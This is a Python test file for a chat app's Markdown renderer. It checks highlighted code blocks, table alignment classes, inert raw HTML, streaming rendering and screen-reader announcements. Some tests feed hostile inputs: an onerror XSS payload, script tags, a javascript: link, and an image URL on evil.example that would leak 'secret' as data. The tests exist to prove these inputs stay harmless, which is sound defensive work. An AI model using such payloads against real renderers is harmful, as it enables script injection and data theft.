"""Replies render as safe Markdown: highlighted code, styled tables, no remote images."""

from html.parser import HTMLParser
from pathlib import Path

from chat import fragments
from chat.markdown import LiveMarkdown, highlight_css, render_markdown, render_partial_markdown
from chat.models import Message

STATIC = Path(__file__).resolve().parent.parent / "chat" / "static" / "chat"


class Tags(HTMLParser):
    def __init__(self, markup: str):
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(markup)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def named(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.found if name == tag]


def test_a_code_block_is_highlighted_with_classes_and_has_a_language_label_and_copy_button():
    html = render_markdown("```python\ndef answer():\n    return 42\n```")
    tags = Tags(html)

    assert '<span class="code-language">python</span>' in html
    assert tags.named("button") == [{"type": "button", "class": "copy-code"}]
    assert '<span class="k">def</span>' in html  # Pygments' keyword class
    assert '<span class="nf">answer</span>' in html
    assert not any("style" in attrs for _, attrs in tags.found)  # nothing the CSP blocks


def test_an_unknown_language_is_labelled_as_written_and_left_plain():
    html = render_markdown("```nosuchlang\n<b>x</b>\n```")
    assert '<span class="code-language">nosuchlang</span>' in html
    assert "&lt;b&gt;x&lt;/b&gt;" in html
    assert "<b>" not in html


def test_a_hostile_language_name_stays_text():
    html = render_markdown('```"><img src=x onerror=alert(1)>\ncode\n```')
    assert Tags(html).named("img") == []
    assert "onerror" not in "".join(str(attrs) for _, attrs in Tags(html).found)


def test_table_alignment_becomes_classes_not_inline_styles():
    html = render_markdown("| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 | 3 |")
    cells = Tags(html).named("td")
    assert [cell.get("class") for cell in cells] == ["align-left", "align-center", "align-right"]
    assert "style=" not in html


def test_an_image_is_never_loaded_but_offered_as_a_link():
    html = render_markdown("![the secret](https://evil.example/pixel.png?data=secret)")
    tags = Tags(html)
    assert tags.named("img") == []
    [link] = tags.named("a")
    assert link["href"] == "https://evil.example/pixel.png?data=secret"
    assert link["rel"] == "noopener noreferrer"
    assert "the secret" in html


def test_raw_html_and_script_links_stay_inert():
    html = render_markdown(
        '<script>alert(1)</script> <div hx-get="/x">x</div> [click](javascript:alert(1))'
    )
    names = [name for name, _ in Tags(html).found]
    assert names == ["p"]
    assert "&lt;script&gt;" in html


def test_an_open_code_fence_renders_as_a_code_block_while_streaming():
    html = render_partial_markdown("Here:\n\n```js\nconst x = 1")
    assert '<div class="code-block">' in html
    assert '<span class="code-language">js</span>' in html
    assert "```" not in html


def test_half_a_link_shows_its_label_without_the_address_while_streaming():
    assert render_partial_markdown("See [the docs](https://docs.djan") == "<p>See the docs</p>\n"
    finished = render_partial_markdown("See [the docs](https://docs.djangoproject.com/)")
    assert '<a href="https://docs.djangoproject.com/"' in finished


def test_a_streamed_reply_renders_exactly_like_the_finished_one():
    text = "# Title\n\n**Bold** and a list:\n\n- one\n- two\n\n```py\nprint(1)\n```\n"
    assert render_partial_markdown(text) == render_markdown(text)


def test_the_shipped_highlight_stylesheet_is_the_one_pygments_writes():
    assert (STATIC / "highlight.css").read_text() == highlight_css()


GROWING = """Intro with **bold** and a [link](https://example.com/).

## Heading

- item one
- item two

  continued item

1. first
2. second

> quoted
still quoted

    indented code

```python
def f():

    return 1
```

~~~~
a ``` inside
~~~~

| a | b |
|---|---|
| 1 | 2 |

Last paragraph, *emphasis* and `code`.
"""


def test_a_growing_reply_renders_the_same_whether_cached_or_rendered_whole():
    live = LiveMarkdown()
    for end in range(1, len(GROWING) + 1):
        assert live.render(GROWING[:end]) == render_partial_markdown(GROWING[:end]), end
    assert live.stable_text  # the finished blocks were kept, not rendered again


def test_a_live_frame_replaces_the_bubbles_content_with_sanitised_markdown():
    reply = Message(pk=7, role="assistant", status="streaming")
    frame = fragments.live(reply, "**hi** <script>x</script>")
    assert frame == (
        '<div id="message-7-text" hx-swap-oob="innerHTML">'
        "<p><strong>hi</strong> &lt;script&gt;x&lt;/script&gt;</p>\n</div>"
    )


def test_a_finished_reply_shows_its_markdown_and_is_announced_once_as_plain_text():
    text = '**Bold** & `<b hx-get="/x">` [link](https://example.com)\n\n- one\n- two'
    reply = Message(pk=8, role="assistant", status="complete", content=text)
    finished = fragments.finished(reply)

    assert render_markdown(text) in finished  # the bubble: the reply's Markdown, rendered once
    announcer = finished[finished.index('<div id="announcer"') :]
    assert Tags(announcer).found == [
        (
            "div",
            {
                "id": "announcer",
                "class": "visually-hidden",
                "role": "status",
                "hx-swap-oob": "true",
            },
        )
    ]
    spoken = announcer[announcer.index(">") + 1 : announcer.index("</div>")]
    assert " ".join(spoken.split()) == "Bold &amp; &lt;b hx-get=&quot;/x&quot;&gt; link one two"
